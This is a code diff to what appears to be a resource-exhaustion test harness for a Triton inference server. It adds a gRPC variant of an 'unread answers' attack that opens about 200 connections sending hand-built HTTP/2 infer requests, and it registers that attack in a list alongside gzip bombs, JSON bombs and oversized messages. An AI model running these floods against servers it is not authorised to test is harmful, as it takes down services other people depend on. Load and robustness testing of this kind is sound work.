@@ -186,6 +186,21 @@ def unread_answers(server: Server, scale: float) -> str:
     return "held for 5 s"
 
 
+def unread_grpc_answers(server: Server, scale: float) -> str:
+    """The same over gRPC."""
+    from tritonclient.grpc import service_pb2 as pb
+
+    tensor = pb.ModelInferRequest.InferInputTensor(name="x", datatype="FP32", shape=[1])
+    raw = [np.ones(1, np.float32).tobytes()]
+    message = pb.ModelInferRequest(model_name="large", inputs=[tensor], raw_input_contents=raw).SerializeToString()
+    data = _frame(0, 1, 1, b"\0" + len(message).to_bytes(4, "big") + message)
+    with contextlib.ExitStack() as open_ones:
+        for _ in range(max(1, round(200 * scale))):
+            open_ones.enter_context(server.connect(server.grpc)).sendall(_begun_infer() + data)
+        time.sleep(5)
+    return "held for 5 s"
+
+
 def idle_connections(server: Server, scale: float) -> str:
     """Connections that have sent 8 MB each, and stay."""
     _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
@@ -263,16 +278,21 @@ def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
     return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
 
 
-def grpc_message(server: Server, scale: float) -> str:
-    """One message of 4 GiB, by frames of HTTP/2, as fast as the server lets it come."""
+def _begun_infer() -> bytes:
+    """A connection's first frames: its settings, and the head of an infer call."""
     from hpack import Encoder
 
     headers = [(":method", "POST"), (":scheme", "http"), (":path", "/inference.GRPCInferenceService/ModelInfer")]
     headers += [(":authority", "t"), ("content-type", "application/grpc"), ("te", "trailers")]
+    settings = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b"")
+    return settings + _frame(1, 4, 1, Encoder().encode(headers))
+
+
+def grpc_message(server: Server, scale: float) -> str:
+    """One message of 4 GiB, by frames of HTTP/2, as fast as the server lets it come."""
     wanted = round(GRPC_MESSAGE_BYTES * min(1.0, scale))
     with server.connect(server.grpc) as connection:
-        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
-        connection.sendall(_frame(1, 4, 1, Encoder().encode(headers)))
+        connection.sendall(_begun_infer())
         prefix = b"\0" + GRPC_MESSAGE_BYTES.to_bytes(4, "big")
         sent = _send_message(connection, prefix, wanted)
     return f"{sent // MIB} of {wanted // MIB} MiB were taken"
@@ -332,6 +352,7 @@ def tensor_traces(server: Server, scale: float) -> str:
 
 ATTACKS: dict[str, Callable[[Server, float], str]] = {
     "unread answers": unread_answers,
+    "unread gRPC answers": unread_grpc_answers,
     "idle connections": idle_connections,
     "gzip bombs": gzip_bombs,
     "JSON bombs": json_bombs,
